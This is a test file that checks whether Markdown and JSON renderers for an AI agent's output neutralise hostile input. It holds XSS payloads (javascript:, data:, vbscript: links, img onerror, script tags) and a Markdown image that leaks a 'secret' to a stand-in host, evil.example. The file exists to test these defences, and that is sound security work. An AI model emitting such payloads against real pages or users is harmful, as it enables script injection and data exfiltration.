import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { JsonBlock } from './JsonBlock.tsx';
import { Markdown } from './Markdown.tsx';

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe('Markdown of an agent', () => {
  test('opens links elsewhere, without a handle on this page and without a referrer', () => {
    expect(html('[docs](https://example.com/a)')).toContain(
      '<a href="https://example.com/a" target="_blank" rel="noopener noreferrer nofollow">docs</a>',
    );
  });

  test.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#10;script:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:msgbox)',
    '<javascript:alert(1)>',
    '![x](javascript:alert(1))',
  ])('gives %s no address that runs', (text) => {
    expect(html(text)).not.toMatch(/href="[^"]*(?:script|data):/i);
  });

  test('shows raw HTML as text', () => {
    const shown = html('<img src=x onerror=alert(1)> and <script>alert(1)</script>');
    expect(shown).not.toMatch(/<(?:img|script)/);
    expect(shown).toContain('&lt;img');
  });

  test('fetches no image on sight: it is a link', () => {
    const shown = html('![secret](https://evil.example/?q=secret)');
    expect(shown).not.toContain('<img');
    expect(shown).toContain('>secret</a>');
  });

  test('fits headings under the name of the author, without a gap', () => {
    expect(html('# One\n\n#### Two').match(/<h\d/g)).toEqual(['<h3', '<h4']);
  });

  test('leaves out the head of a table that has none', () => {
    const shown = html('| | |\n| --- | --- |\n| when | now |');
    expect(shown).not.toContain('<th');
    expect(shown).toContain('<td>when</td>');
    expect(html('| a |\n| --- |\n| b |')).toContain('<th>a</th>');
  });

  test('shows code with its language and a button that copies it', () => {
    const shown = html('```sh\nls <dir>\n```');
    expect(shown).toContain('>sh</span>');
    expect(shown).toContain('<code>ls &lt;dir&gt;</code>');
    expect(shown).toContain('aria-label="Copy code"');
  });
});

describe('JSON of a tool', () => {
  test('is text: no address in it becomes a link, no markup in it an element', () => {
    const value = { url: 'javascript:alert(1)', html: '<img src=x onerror=alert(1)>' };
    const shown = renderToStaticMarkup(<JsonBlock label="Result" value={value} />);
    expect(shown).not.toMatch(/<(?:a|img)\b/);
    expect(shown).toContain('&lt;img src=x');
  });

  test('shows a value that JSON does not know as null', () => {
    expect(renderToStaticMarkup(<JsonBlock label="Result" value={undefined} />)).toContain('>null</pre>');
  });
});
